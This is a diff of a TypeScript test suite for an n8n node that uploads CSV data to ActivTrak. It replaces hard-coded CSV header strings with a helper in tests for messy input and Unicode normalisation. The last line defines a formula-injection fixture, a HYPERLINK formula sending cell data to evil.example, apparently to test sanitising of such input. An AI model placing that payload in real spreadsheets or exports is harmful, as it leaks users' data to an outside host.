@@ -7,7 +7,7 @@
 import type { IDataObject } from 'n8n-workflow';
 
 import { useEmulator } from '../support/emulatorSetup';
-import { CSV_HEADER } from '../support/snapshots';
+import { hrdcCsv } from '../support/snapshots';
 
 describe('messy input', () => {
 	const { emulator, run } = useEmulator('key', {
@@ -58,7 +58,10 @@ describe('messy input', () => {
 			const result = await file(text.replace('maybe', 'yes'));
 			expect(result.error).toBeUndefined();
 			expect(emulator.uploads[0].csv).toBe(
-				`${CSV_HEADER}u0@x.com,,,,Sales,,\r\nu1@x.com,,,,Sales,,\r\n`,
+				hrdcCsv(
+					{ user_lookup_id: 'u0@x.com', group: 'Sales' },
+					{ user_lookup_id: 'u1@x.com', group: 'Sales' },
+				),
 			);
 			expect(result.output('ActivTrak HRDC')[0].json.warnings).toContain(
 				'3 empty rows (only separators) were skipped in the file.',
@@ -130,7 +133,9 @@ describe('messy input', () => {
 				{ user_lookup_id: 'jose\u0301@x.com', group: 'Cafe\u0301' },
 			]);
 			expect(result.error).toBeUndefined();
-			expect(emulator.uploads[0].csv).toBe(`${CSV_HEADER}jos\u00e9@x.com,,,,Caf\u00e9,,\r\n`);
+			expect(emulator.uploads[0].csv).toBe(
+				hrdcCsv({ user_lookup_id: 'jos\u00e9@x.com', group: 'Caf\u00e9' }),
+			);
 		});
 
 		const FORMULA = '=HYPERLINK("http://evil.example/?d="&A3,"Click me")';
